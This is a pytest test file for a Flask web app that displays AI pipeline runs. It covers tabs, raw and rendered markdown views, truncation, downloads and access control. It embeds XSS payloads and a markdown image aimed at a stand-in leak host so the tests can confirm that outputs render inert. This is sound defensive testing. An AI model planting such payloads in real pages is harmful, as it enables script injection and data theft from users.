"""A run's page: tabs as fragments of one template, safe markdown, raw view, errors and downloads."""

from __future__ import annotations

import json
import re
import tracemalloc
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from markupsafe import escape

from artifacts_app import recording, rendering
from artifacts_app.extensions import db
from artifacts_app.models import PipelineRun, User
from tests.factories import HOSTILE_OUTPUTS, make_run, make_user, start_run, steps
from tests.fetched import fetched_from
from tests.http_helpers import without_csrf_tokens

HX = {"HX-Request": "true"}
SELECTED = re.compile(r'<a role="tab" id="tab-([a-z0-9-]+)"[^>]*aria-selected="true"')


@pytest.fixture
def run(user: User) -> PipelineRun:
    return make_run(user, steps=steps("alpha output", "beta output", "gamma output"), final_output="omega output")


def panel_of(html: str, key: str) -> str:
    """The inside of one tabpanel element of a full page."""
    match = re.search(rf'<div role="tabpanel" id="panel-{key}".*?>(.*?)\n  </div>', html, re.S)
    assert match, key
    return match.group(1)


@pytest.mark.parametrize(("tab", "text"), [("final", "omega"), ("step-1", "alpha"), ("step-2", "beta"), ("step-3", "gamma")])
def test_each_tab_fragment_holds_exactly_its_output(signed_in: FlaskClient, run: PipelineRun, tab: str, text: str) -> None:
    response = signed_in.get(f"/artifacts/{run.id}?tab={tab}", headers=HX)
    fragment = response.get_data(as_text=True)
    assert response.status_code == 200 and "<html" not in fragment
    assert "HX-Request" in response.headers["Vary"]
    assert f"{text} output" in fragment
    others = {"omega", "alpha", "beta", "gamma"} - {text}
    assert not [other for other in others if f"{other} output" in fragment]


def test_the_full_page_renders_only_the_active_tab(signed_in: FlaskClient, run: PipelineRun) -> None:
    html = signed_in.get(f"/artifacts/{run.id}?tab=step-2").get_data(as_text=True)
    assert "<html" in html
    assert SELECTED.findall(html) == ["step-2"]
    assert "beta output" in panel_of(html, "step-2")
    for other in ("alpha", "gamma", "omega"):
        assert f"{other} output" not in html
    labels = re.findall(r'<span class="step-title">([^<]+)</span>', html)
    assert labels == ["Final output", "1 · Researcher", "2 · Analyst", "3 · Writer"]
    tab = re.search(r'<a role="tab" id="tab-step-3"[^>]*>', html).group(0)
    assert f'href="/artifacts/{run.id}?tab=step-3"' in tab  # a real link without JavaScript
    assert f'hx-get="/artifacts/{run.id}?tab=step-3"' in tab and 'hx-push-url="true"' in tab
    assert 'aria-controls="panel-step-3"' in tab and 'tabindex="-1"' in tab
    assert 'role="tablist"' in html and 'aria-labelledby="tab-step-3"' in html
    # Without a tab parameter the final output is active.
    assert SELECTED.findall(signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)) == ["final"]


def test_the_page_shows_the_runs_metadata(signed_in: FlaskClient, user: User) -> None:
    run = make_run(user, model="gpt-4o", usage={"inputTokens": 12345, "outputTokens": 950},
                   variables={"audience": "engineers", "tone": "concise"}, input="x" * 700)
    html = signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)
    assert "gpt-4o" in html and 'title="12,345 tokens">12.3K<' in html
    assert 'title="$0.040362500000">$0.04<' in html
    assert "<code>audience</code></th><td>engineers</td>" in html
    assert "<details><summary>" in html  # a long input is collapsible
    assert "42 s" in html


def test_the_page_is_titled_by_the_runs_name_and_shows_its_tags_and_metadata(
    signed_in: FlaskClient, user: User
) -> None:
    run = make_run(user, name="Nightly <eval>", pipeline="Code review", tags=["nightly", "a&b"],
                   metadata={"env": "prod", "git.sha": "3f2a9c1"})
    plain = make_run(user, pipeline="Code review", input="")  # no name given, no input line: the pipeline

    html = signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)

    assert f"<title>Nightly &lt;eval&gt; · Code review · run {run.id[:8]} · Artifacts</title>" in html
    assert "<h1>Nightly &lt;eval&gt;</h1>" in html
    assert 'href="/artifacts?pipeline=Code+review">Code review</a></nav>' in html
    assert 'href="/artifacts?tag=nightly"' in html and 'href="/artifacts?tag=a%26b"' in html
    assert '<dt>env</dt><dd><a href="/artifacts?meta.env=prod"' in html
    assert '<dt>git.sha</dt><dd><a href="/artifacts?meta.git.sha=3f2a9c1"' in html
    other = signed_in.get(f"/artifacts/{plain.id}").get_data(as_text=True)
    assert "<h1>Code review</h1>" in other and 'aria-label="Metadata"' not in other
    # The links lead to the runs they name.
    listed = signed_in.get("/artifacts?meta.git.sha=3f2a9c1").get_data(as_text=True)
    assert f"/artifacts/{run.id}" in listed and f"/artifacts/{plain.id}" not in listed


def test_the_runs_and_steps_times_are_time_tags_in_utc_for_the_browser_to_localize(
    signed_in: FlaskClient, user: User
) -> None:
    timed = steps("alpha", "beta", startedAt="2025-11-01T11:59:20+00:00", completedAt="2025-11-01T11:59:31+00:00")
    timed[1].pop("startedAt")
    timed[1].pop("completedAt")
    run = make_run(user, steps=timed)  # created 11:59:18, completed 12:00:00 UTC

    html = signed_in.get(f"/artifacts/{run.id}?tab=step-1").get_data(as_text=True)

    def tag(moment: str) -> str:
        return f'<time datetime="2025-11-01T{moment}+00:00" title="2025-11-01 {moment} UTC">2025-11-01 {moment} UTC</time>'

    assert f"<dt>Created</dt><dd>{tag('11:59:18')}</dd>" in html
    assert f"<dt>Completed</dt><dd>{tag('12:00:00')}</dd>" in html
    assert f"<dt>Started</dt><dd>{tag('11:59:20')}</dd>" in html
    assert len(re.findall(r"<time ", html)) == 3
    # A step without times and a run still open say so with a dash; fragments carry the same tags.
    untimed = signed_in.get(f"/artifacts/{run.id}?tab=step-2", headers=HX).get_data(as_text=True)
    assert "<dt>Started</dt><dd>\u2014</dd>" in untimed and "<time" not in untimed
    fragment = signed_in.get(f"/artifacts/{run.id}?tab=step-1&view=raw", headers=HX).get_data(as_text=True)
    assert f"<dt>Started</dt><dd>{tag('11:59:20')}</dd>" in fragment
    running = start_run(user, pipeline="Code review", input="PR 9", created_at="2025-11-01T11:00:05+00:00")
    db.session.commit()
    page = signed_in.get(f"/artifacts/{running.id}").get_data(as_text=True)
    assert "<dt>Completed</dt><dd>\u2014</dd>" in page
    assert '<time datetime="2025-11-01T11:00:05+00:00" title="2025-11-01 11:00:05 UTC">' in page


def test_step_with_its_own_usage_shows_its_model_tokens_and_cost(signed_in: FlaskClient, user: User) -> None:
    mixed = steps("a", "b", model="claude-haiku-4-5", inputTokens=1000, outputTokens=200)
    run = make_run(user, steps=mixed, usage=None)
    fragment = signed_in.get(f"/artifacts/{run.id}?tab=step-2", headers=HX).get_data(as_text=True)
    assert "claude-haiku-4-5" in fragment and 'title="1,000 tokens">1K<' in fragment
    assert 'title="$0.002000000000">$0.002<' in fragment  # 1,000 × $1/M + 200 × $5/M


def test_a_failed_run_shows_its_error_and_the_steps_that_completed(signed_in: FlaskClient, user: User) -> None:
    run = make_run(user, status="failed", error="RateLimitError: 429 from provider", steps=steps("partial one"),
                   final_output="")
    html = signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)
    assert 'class="run-error" role="alert"' in html and "RateLimitError: 429 from provider" in html
    assert "This run failed before producing a final output." in html
    assert "1 · Researcher" in html
    assert "partial one" in signed_in.get(f"/artifacts/{run.id}?tab=step-1", headers=HX).get_data(as_text=True)


def test_a_legacy_run_shows_its_text_output_as_the_only_tab(signed_in: FlaskClient, user: User) -> None:
    when = datetime(2024, 1, 5, tzinfo=timezone.utc)
    run = recording.record_legacy_run(user, pipeline="Old", input="in", final_output="## Legacy *text*",
                                      created_at=when, completed_at=when + timedelta(seconds=2))
    db.session.commit()
    html = signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)
    assert re.findall(r'<span class="step-title">([^<]+)</span>', html) == ["Final output"]
    assert "<h3>Legacy <em>text</em></h3>" in html  # rendered headings start at h2
    download = signed_in.get(f"/artifacts/{run.id}/download?part=final&format=md")
    assert download.get_data(as_text=True) == "## Legacy *text*"


@pytest.mark.parametrize("hostile", HOSTILE_OUTPUTS)
def test_hostile_output_renders_inert(signed_in: FlaskClient, user: User, hostile: str) -> None:
    run = make_run(user, steps=steps(hostile), final_output=hostile)
    html = signed_in.get(f"/artifacts/{run.id}?tab=step-1").get_data(as_text=True)
    fragment = signed_in.get(f"/artifacts/{run.id}?tab=step-1", headers=HX).get_data(as_text=True)
    rendered = re.search(r'<div class="markdown" hx-disable>(.*)</div>\s*$', fragment, re.S)
    assert rendered, "the output sits in an hx-disable container, the last thing in its panel"
    body = rendered.group(1)
    assert not re.search(r"<(script|iframe|form|input|style|svg|textarea|img)\b", body, re.I)
    assert not re.search(r"\son\w+\s*=", body, re.I)
    urls = re.findall(r'(?:href|src)="([^"]*)"', body)
    assert not [url for url in urls if re.match(r"\s*(javascript|data|vbscript):", url, re.I)], urls
    assert "hx-get" not in body and "hx-trigger" not in body
    assert html.rstrip().endswith("</html>") and "Download all" in html
    # The raw view shows exactly the text, escaped; the rest of the page is still there.
    raw = signed_in.get(f"/artifacts/{run.id}?tab=step-1&view=raw").get_data(as_text=True)
    assert f'id="view-step-1-source">{escape(hostile)}</pre>' in raw
    assert raw.rstrip().endswith("</html>") and "Download all" in raw


def test_images_from_other_hosts_become_links_not_requests(signed_in: FlaskClient, user: User) -> None:
    run = make_run(user, final_output="![chart](https://evil.example/leak?q=secret)")
    html = signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)
    assert "<img" not in html
    assert re.search(r'<a[^>]*class="blocked-image"[^>]*href="https://evil.example/leak\?q=secret"|'
                     r'<a[^>]*href="https://evil.example/leak\?q=secret"[^>]*class="blocked-image"', html)


def view_links(html: str) -> dict[str, str]:
    """The view switch's links, label → tag."""
    switch = re.search(r'<div class="view-switch" role="group" aria-label="View"[^>]*>(.*?)</div>', html, re.S)
    assert switch, "no view switch"
    return {label: tag for tag, label in re.findall(r'(<a [^>]*>)([^<]+)</a>', switch.group(1))}


def test_a_panel_sends_only_the_view_asked_for(signed_in: FlaskClient, user: User) -> None:
    source = "# Title\n\n```python\nprint('<b>')\n```\n"
    run = make_run(user, final_output=source)
    escaped = "# Title\n\n```python\nprint(&#39;&lt;b&gt;&#39;)\n```\n"

    html = signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)

    assert '<h2>Title</h2>' in html and 'class="highlight"' in html  # the page's h1 stays the only one
    assert "pygments.css" in html
    assert 'class="raw' not in html and "print(&#39;" not in html  # the raw text is not sent along
    assert 'data-view="rendered"' in html
    for raw_page in (signed_in.get(f"/artifacts/{run.id}?view=raw"),
                     signed_in.get(f"/artifacts/{run.id}?tab=final&view=raw", headers=HX)):
        raw_html = raw_page.get_data(as_text=True)
        assert raw_page.status_code == 200 and "HX-Request" in raw_page.headers["Vary"]
        raw = re.search(r'<pre class="raw wrap" id="view-final-source">(.*?)</pre>', raw_html, re.S)
        assert raw and raw.group(1) == escaped
        assert 'class="markdown"' not in raw_html and "<h2>Title</h2>" not in raw_html
        assert 'data-view="raw"' in raw_html
    # Loaded directly, the raw view is the whole page (a URL htmx pushes), without JavaScript too.
    page = signed_in.get(f"/artifacts/{run.id}?tab=final&view=raw").get_data(as_text=True)
    assert "<html" in page and SELECTED.findall(page) == ["final"] and 'id="view-final-source"' in page
    fragment = signed_in.get(f"/artifacts/{run.id}?tab=final&view=raw", headers=HX).get_data(as_text=True)
    assert "<html" not in fragment and 'role="tablist"' not in fragment


def test_the_view_switch_is_two_real_links_to_the_same_panel(signed_in: FlaskClient, run: PipelineRun) -> None:
    for query, current in (("tab=step-2", "Rendered"), ("tab=step-2&view=raw", "Raw")):
        links = view_links(signed_in.get(f"/artifacts/{run.id}?{query}").get_data(as_text=True))
        assert set(links) == {"Rendered", "Raw"}
        assert [label for label, tag in links.items() if 'aria-current="true"' in tag] == [current]
        for label, url in (("Rendered", f"/artifacts/{run.id}?tab=step-2"),
                           ("Raw", f"/artifacts/{run.id}?tab=step-2&amp;view=raw")):
            tag = links[label]
            assert f'href="{url}"' in tag and f'hx-get="{url}"' in tag, tag
            assert 'hx-target="#panel-step-2"' in tag and 'hx-swap="innerHTML"' in tag and 'hx-push-url="true"' in tag
    # ?view=rendered is the default said out loud.
    explicit = signed_in.get(f"/artifacts/{run.id}?tab=step-2&view=rendered", headers=HX).get_data(as_text=True)
    assert 'data-view="rendered"' in explicit


@pytest.mark.parametrize("view", ["RAW", "source", "raw,rendered", "../raw"])
def test_a_view_that_does_not_exist_is_a_clear_400(signed_in: FlaskClient, run: PipelineRun, view: str) -> None:
    page = signed_in.get(f"/artifacts/{run.id}?tab=step-1&view={view}")
    assert page.status_code == 400 and "is not a view" in page.get_data(as_text=True)
    fragment = signed_in.get(f"/artifacts/{run.id}?tab=step-1&view={view}", headers=HX)
    assert fragment.status_code == 400 and 'role="alert"' in fragment.get_data(as_text=True)


def test_the_raw_view_renders_no_markdown(
    signed_in: FlaskClient, run: PipelineRun, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls: list[str] = []
    monkeypatch.setattr(rendering, "render_markdown", lambda text: calls.append(text))
    fragment = signed_in.get(f"/artifacts/{run.id}?tab=step-3&view=raw", headers=HX).get_data(as_text=True)
    assert 'id="view-step-3-source">gamma output</pre>' in fragment
    assert calls == []


def test_copy_always_fetches_the_whole_text_and_is_disabled_when_empty(
    app: Flask, signed_in: FlaskClient, user: User
) -> None:
    app.config["RENDER_LIMIT_BYTES"] = 1000
    run = make_run(user, steps=steps("short", "x" * 5000, ""), final_output="")
    buttons = {}
    for tab in ("step-1", "step-2", "step-3", "final"):
        for view in ("", "&view=raw"):
            fragment = signed_in.get(f"/artifacts/{run.id}?tab={tab}{view}", headers=HX).get_data(as_text=True)
            button = re.search(r'<button type="button" class="copy-button"(.*?)</button>', fragment, re.S)
            assert button, (tab, view)
            text = " ".join(button.group(1).split())
            assert f'data-full="/artifacts/{run.id}/download?part={tab}&amp;format=txt"' in text, text
            buttons.setdefault(tab, set()).add(text)
    assert all(len(seen) == 1 for seen in buttons.values()), buttons  # the same in either view
    step_1, step_2, step_3, final = (next(iter(buttons[tab])) for tab in ("step-1", "step-2", "step-3", "final"))
    assert step_1.endswith(">Copy raw text") and "disabled" not in step_1 and "data-truncated" not in step_1
    assert step_2.endswith(">Copy the whole output") and "data-truncated" in step_2
    assert 'disabled title="This output is empty"' in step_3 and 'disabled title="This output is empty"' in final


def test_a_tab_opened_twice_renders_once(signed_in: FlaskClient, run: PipelineRun, monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []
    original = rendering.render_markdown

    def counting(text: str) -> Any:
        calls.append(text)
        return original(text)

    monkeypatch.setattr(rendering, "render_markdown", counting)
    for _ in range(3):
        assert signed_in.get(f"/artifacts/{run.id}?tab=step-3", headers=HX).status_code == 200
    assert calls == ["gamma output"]


def test_huge_outputs_are_cut_with_a_note_and_a_full_download(app: Flask, signed_in: FlaskClient, user: User) -> None:
    app.config["RENDER_LIMIT_BYTES"] = 1000
    long_text = "".join(f"line {i} with some words é\n" for i in range(400))
    run = make_run(user, final_output=long_text)
    html = signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)
    note = re.search(r'<p class="truncated" role="note">(.*?)</p>', html, re.S).group(1)
    total = len(long_text.encode())
    assert "more are not shown" in note and f"/artifacts/{run.id}/download?part=final" in note
    assert "line 30 " in html and "line 399" not in html
    full = signed_in.get(f"/artifacts/{run.id}/download?part=final&format=txt").get_data()
    assert len(full) == total


def test_the_tab_query_does_not_pull_a_20_mb_artifact_into_python(
    app: Flask, signed_in: FlaskClient, user: User
) -> None:
    huge = "# Big\n" + ("x" * 99 + "\n") * 200_000  # 20 MB in the first step
    run = make_run(user, steps=steps(huge, "small step"), final_output="small final", usage=None)
    signed_in.get(f"/artifacts/{run.id}?tab=step-2", headers=HX)  # warm up imports and caches
    tracemalloc.start()
    try:
        for tab in ("step-2", "final", "step-1"):
            response = signed_in.get(f"/artifacts/{run.id}?tab={tab}", headers=HX)
            assert response.status_code == 200
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Reading the whole document would allocate well over 20 MB; the panels read at most
    # RENDER_LIMIT_BYTES (64 KB) of one output each.
    assert peak < 5_000_000, f"peak {peak:,} bytes"
    page = signed_in.get(f"/artifacts/{run.id}?tab=step-1").get_data(as_text=True)
    assert "Showing the first" in page and "MB" in page


def test_a_tab_the_live_update_and_a_parts_download_never_fetch_a_3_mb_input(
    signed_in: FlaskClient, user: User
) -> None:
    text = "Question?\n" + "Ünïcode line\n" * 250_000  # 3.75 MB
    run_id = make_run(user, input=text, steps=steps("alpha"), final_output="omega").id
    for path, headers in ((f"/artifacts/{run_id}?tab=step-1", HX), (f"/artifacts/{run_id}?tab=final", HX),
                          (f"/artifacts/{run_id}/live?steps=1", HX),
                          (f"/artifacts/{run_id}/download?part=step-1&format=json", {})):
        with fetched_from(db.engine) as fetched:
            response = signed_in.get(path, headers=headers)
            response.get_data()
        assert response.status_code == 200
        assert fetched.total_bytes < 64 * 1024, (path, fetched.total_bytes)
    whole = signed_in.get(f"/artifacts/{run_id}/download?part=all&format=txt").get_data(as_text=True)
    assert text in whole


def test_a_5_mb_input_and_error_show_their_first_part_and_download_whole(signed_in: FlaskClient, user: User) -> None:
    hostile = "<script>alert('input')</script>\n"
    text = hostile + "Ünïcode line\n" * 400_000  # 6 MB
    error = "<img src=x onerror=alert(1)>Traceback\n" + "  File \"agent.py\", line 1\n" * 200_000  # 5.2 MB
    failing = steps("alpha", "beta")
    failing[1]["status"] = "failed"
    run = make_run(user, status="failed", input=text, error=error, steps=failing, final_output="")
    page_url = f"/artifacts/{run.id}"

    with fetched_from(db.engine) as fetched:
        response = signed_in.get(page_url)  # opens on the failed step: the error shows twice
        page = response.get_data(as_text=True)
    assert response.status_code == 200
    # Each of the input and the error (read for the alert and the failed step's panel) arrives as
    # its first RENDER_LIMIT_BYTES + 1 characters at most, of 2 bytes at most each: 11 MB stays in
    # the database.
    assert fetched.largest_value <= (64 * 1024 + 1) * 2 and fetched.total_bytes < 3 * (64 * 1024 + 1) * 2 + 8 * 1024
    assert len(response.get_data()) < 200_000

    input_section = re.search(r'<section class="run-input">(.*?)</section>', page, re.S).group(1)
    assert f"<summary>{escape(text[:200])}…</summary>" in input_section
    assert re.search(r"Showing the first 6\d\.\d kB of 6\.0 MB;\s+5\.9 MB more are not shown\.", input_section)
    assert f'<a href="/artifacts/{run.id}/download?part=input&amp;format=txt">Download the full input</a>' in input_section
    alert = re.search(r'<section class="run-error" role="alert">(.*?)</section>', page, re.S).group(1)
    assert re.search(r"Showing the first 6\d\.\d kB of 5\.2 MB;\s+5\.1 MB more are not shown\.", alert)
    assert f'<a href="/artifacts/{run.id}/download?part=error&amp;format=txt">Download the full error</a>' in alert
    # The failed step's panel points to the error above rather than send it twice.
    beside = panel_of(page, "step-2")
    assert 'starts <a href="#run-alerts">above</a>' in beside and "Download the full error" in beside
    assert "Traceback" not in beside
    # What came in hostile stays escaped text.
    assert "<script>alert('input')" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(&#39;input&#39;)&lt;/script&gt;" in input_section
    assert "&lt;img src=x onerror=alert(1)&gt;Traceback" in alert

    for part, whole in (("input", text), ("error", error)):
        download = signed_in.get(f"/artifacts/{run.id}/download?part={part}&format=txt", buffered=False)
        assert download.is_streamed and "Content-Length" not in download.headers
        assert download.headers["Content-Type"] == "text/plain; charset=utf-8"
        assert download.headers["Content-Disposition"] == f'attachment; filename="research-brief-{run.id[:8]}-{part}.txt"'
        assert download.headers["X-Content-Type-Options"] == "nosniff"
        assert download.get_data() == whole.encode()
        as_json = json.loads(signed_in.get(f"/artifacts/{run.id}/download?part={part}&format=json").get_data())
        assert as_json == {"run": run.id, "part": part, part: whole}


def test_another_users_input_and_error_downloads_are_missing(signed_in: FlaskClient) -> None:
    theirs = make_run(make_user("stranger@example.com"), status="failed", error="their secret error",
                      input="their secret input")
    for part in ("input", "error"):
        for fmt in ("txt", "md", "json"):
            response = signed_in.get(f"/artifacts/{theirs.id}/download?part={part}&format={fmt}")
            assert response.status_code == 404
            assert "their secret" not in response.get_data(as_text=True)


def test_a_run_without_an_error_has_no_error_to_download(signed_in: FlaskClient, user: User) -> None:
    run = make_run(user)
    assert signed_in.get(f"/artifacts/{run.id}/download?part=error&format=txt").status_code == 404
    assert signed_in.get(f"/artifacts/{run.id}/download?part=input&format=md").get_data() == run.input.encode()


def test_short_inputs_and_errors_look_as_before(signed_in: FlaskClient, user: User) -> None:
    short = make_run(user, input="Summarise <b>this</b>", status="failed", error="Boom", steps=steps("alpha"))
    page = signed_in.get(f"/artifacts/{short.id}").get_data(as_text=True)
    assert '<h2>Input</h2>\n  \n  <pre class="wrap">Summarise &lt;b&gt;this&lt;/b&gt;</pre>' in page
    assert '<pre class="wrap">Boom</pre>\n  <p>The steps that completed are below.</p>' in page
    assert "Download the full" not in page and "<details>" not in page
    # Longer than 600 characters, shorter than the limit: collapsed after its first 200, all of it inside.
    longer = "Question?\n" + "Ünïcode line\n" * 2_000
    page = signed_in.get(f"/artifacts/{make_run(user, input=longer).id}").get_data(as_text=True)
    assert f'<details><summary>{longer[:200]}…</summary><pre class="wrap">{longer}</pre></details>' in page
    assert "Download the full input" not in page


@pytest.mark.parametrize(("query", "status"), [
    ("tab=step-9", 404), ("tab=step-0", 400), ("tab=step-x", 400), ("tab=..%2Fadmin", 400), ("tab=final2", 400),
])
def test_bad_tabs_get_a_clear_page_or_fragment(signed_in: FlaskClient, run: PipelineRun, query: str, status: int) -> None:
    page = signed_in.get(f"/artifacts/{run.id}?{query}")
    assert page.status_code == status and "<html" in page.get_data(as_text=True)
    fragment = signed_in.get(f"/artifacts/{run.id}?{query}", headers=HX)
    assert fragment.status_code == status
    text = fragment.get_data(as_text=True)
    assert "<html" not in text and 'role="alert"' in text


def test_another_users_run_is_exactly_like_a_missing_one(signed_in: FlaskClient, app: Flask) -> None:
    stranger = make_user("stranger@example.com")
    theirs = make_run(stranger)
    for suffix in ("", "?tab=step-1", "/download?part=all&format=json"):
        mine = signed_in.get(f"/artifacts/{theirs.id}{suffix}")
        missing = signed_in.get(f"/artifacts/00000000-0000-4000-8000-000000000000{suffix}")
        assert mine.status_code == missing.status_code == 404
        # Byte for byte, but for the CSRF token's timestamp.
        assert without_csrf_tokens(mine.get_data(as_text=True)) == without_csrf_tokens(missing.get_data(as_text=True))


def test_downloads_carry_the_right_headers_and_bytes(signed_in: FlaskClient, user: User) -> None:
    run = make_run(user, pipeline="Research Brief: Q3/Q4 ünïcode", steps=steps("alpha", "beta"), final_output="omega")
    short = run.id[:8]
    cases = {
        "part=step-2&format=md": ("text/markdown; charset=utf-8", f"research-brief-q3-q4-unicode-{short}-step-2.md", b"beta"),
        "part=step-1&format=txt": ("text/plain; charset=utf-8", f"research-brief-q3-q4-unicode-{short}-step-1.txt", b"alpha"),
        "part=final&format=md": ("text/markdown; charset=utf-8", f"research-brief-q3-q4-unicode-{short}-final.md", b"omega"),
    }
    for query, (mimetype, filename, body) in cases.items():
        response = signed_in.get(f"/artifacts/{run.id}/download?{query}")
        assert response.status_code == 200
        assert response.headers["Content-Type"] == mimetype
        assert response.headers["Content-Disposition"] == f'attachment; filename="{filename}"'
        assert response.get_data() == body
    whole = signed_in.get(f"/artifacts/{run.id}/download?part=all&format=json", buffered=False)
    assert whole.is_streamed and "Content-Length" not in whole.headers  # sent while produced
    document = json.loads(whole.get_data())
    assert document["id"] == run.id and document["cost"] == format(run.cost, "f")
    assert [s["output"] for s in document["steps"]] == ["alpha", "beta"]
    markdown = signed_in.get(f"/artifacts/{run.id}/download?part=all&format=md").get_data(as_text=True)
    assert markdown.index("## Step 1 · Researcher") < markdown.index("alpha") < markdown.index("## Step 2 · Analyst")
    assert markdown.index("beta") < markdown.index("## Final output") < markdown.index("omega")
    step = json.loads(signed_in.get(f"/artifacts/{run.id}/download?part=step-2&format=json").get_data())
    assert step == {"run": run.id, "part": "step-2", "output": "beta", "agentId": "analyst",
                    "agentName": "Analyst", "stepOrder": 1}
    # A step the run does not have is missing; a part or format that cannot exist is a bad request.
    for bad, status in (("part=step-7", 404), ("part=everything", 400), ("format=pdf", 400)):
        assert signed_in.get(f"/artifacts/{run.id}/download?{bad}").status_code == status, bad


def test_the_whole_run_markdown_holds_its_facts_input_variables_and_error_before_the_steps(
    signed_in: FlaskClient, user: User
) -> None:
    run = make_run(user, status="failed", error="Timeout: step 2 exceeded 120 s\n```\nnot a fence", model="gpt-4o",
                   steps=steps("alpha", "beta"), final_output="", input="Review PR #482\n```python\nx = 1\n```",
                   variables={"tone": "formal", "depth": 2}, usage={"inputTokens": 12345, "outputTokens": 950})

    markdown = signed_in.get(f"/artifacts/{run.id}/download?part=all&format=md").get_data(as_text=True)

    facts = markdown[: markdown.index("## Input")]
    for fact in ("**Status:** failed", "**Model:** gpt-4o", "**Tokens:** 12,345 in / 950 out",
                 f"**Cost:** ${format(run.cost, 'f')}", f"**Run:** {run.id}"):
        assert fact in facts, fact
    # The input, variables and error come before the first step, each in a fence it cannot close.
    assert (markdown.index("## Input") < markdown.index("## Variables") < markdown.index("## Error")
            < markdown.index("## Step 1 · Researcher") < markdown.index("## Final output"))
    assert "````\nReview PR #482\n```python\nx = 1\n```\n````" in markdown
    assert '"depth": 2' in markdown and "````\nTimeout: step 2 exceeded 120 s" in markdown
